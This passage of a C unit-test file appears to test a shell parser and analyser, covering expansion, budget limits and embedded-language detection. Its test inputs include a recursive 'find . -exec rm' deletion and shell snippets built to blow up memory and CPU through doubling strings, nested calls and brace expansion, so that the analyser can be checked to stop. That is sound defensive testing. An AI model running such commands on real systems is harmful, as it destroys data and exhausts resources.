		{ "printf '%s-%03d\\n' a 7 b 8 > f; c $(cat f)", "printf|%s-%03d\\n|a|7|b|8;cat|f;c|a-007|b-008;" },
		{ "find . -exec rm {} \\; ; echo x | xargs -I% a %b",
		  "find|.|-exec|rm|{}|;;rm|{};echo|x;xargs|-I%|a|%b;" },
		{ "set -- p q; a $2; shift; b $1", "set|--|p|q;a|q;shift;b|q;" },
		{ "IFS=,; a${IFS}b", "a|b;" },
	};
	for (size_t i = 0; i < GH_ROWS(rows); i++) {
		gh_auto_arena arena = { .max = 8 << 20 };
		struct gh_sh sh = { .arena = &arena, .command = say };
		said[0] = '\0';
		assert_int_equal(gh_sh_run(&sh, gh_span_str(rows[i].in)), GH_OK);
		if (strcmp(said, rows[i].out) != 0 || sh.broken)
			fail_msg("%s: %s%s", rows[i].in, said, sh.broken ? " (broken)" : "");
	}
}

/* What grows without end stops, and is not passed over in silence. */
static void budgets(void **state)
{
	(void)state;
	static const char *const rows[] = {
		"x=aaaaaaaaaaaaaaaa\nfor i in 1 2 3 4 5 6 7 8 9 a b c d e f g h i j k l m n o p q r s t; do x=$x$x; "
		"done\n",
		"f() { g; g; }; g() { h; h; }; h() { i; i; }; i() { j; j; }; j() { k; k; }; k() { l; l; }; l() { m; m; "
		"}; m() { n; n; }; "
		"n() { o; o; }; o() { p; p; }; p() { q; q; }; q() { r; r; }; r() { s; s; }; s() { t; t; }; t() { u; u; "
		"}; u() { v; v; }; v() { w; w; }; w() { x; x; }; f\n",
		"a "
		"{1,2}{1,2}{1,2}{1,2}{1,2}{1,2}{1,2}{1,2}{1,2}{1,2}{1,2}{1,2}{1,2}{1,2}{1,2}{1,2}{1,2}{1,2}{1,2}{1,2}"
		"\n",
		"((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((a\n",
	};
	for (size_t i = 0; i < GH_ROWS(rows); i++) {
		struct gh_scene s = { .format = "shell", .find = note };
		found[0] = '\0';
		gh_shell_judge(&s, gh_span_str(rows[i]), (struct gh_range){ 0, strlen(rows[i]) }, true);
		if (strstr(found, "GH-SHC-0022") == NULL)
			fail_msg("row %zu: %s", i, found);
	}
}

static void reader(void **state)
{
	(void)state;
	static const struct {
		const char *what;
		struct gh_span in;
		const char *say, *not;
	} rows[] = {
		{ "a script", GH_SPAN("#!/bin/sh\nid\n"), "code shell \"x\" 0+13", "anomaly" },
		{ "Python on the command line", GH_SPAN("python3 -c 'import a'\n"), "code python", "anomaly" },
		{ "Python in a here-document", GH_SPAN("python - <<E\nimport a\nE\n"), "code python", "anomaly" },
		{ "a quote that stays open", GH_SPAN("echo 'a\n"), "anomaly GH-SH-0001", NULL },
		{ "a list that stays open", GH_SPAN("if a; then (b\nfi\n"), "anomaly GH-SH-0001", NULL },
	};
	for (size_t i = 0; i < GH_ROWS(rows); i++)
		for (int unstable = 0; unstable < 2; unstable++) {
			struct gh_events ev;
			gh_events_walk(&ev, &gh_fmt_shell, rows[i].in, "x", unstable != 0);
			bool ok = gh_events_has(&ev, rows[i].say) &&
				  (rows[i].not== NULL || !gh_events_has(&ev, rows[i].not));
			if (!ok || ev.rc != GH_OK || !ev.gapless)
				fail_msg("%s: rc %d\n%s", rows[i].what, ev.rc, gh_buf_cstr(&ev.log));
			gh_events_free(&ev);
		}
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(verdicts), cmocka_unit_test(rules),   cmocka_unit_test(documents),
		cmocka_unit_test(words),    cmocka_unit_test(budgets), cmocka_unit_test(reader),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
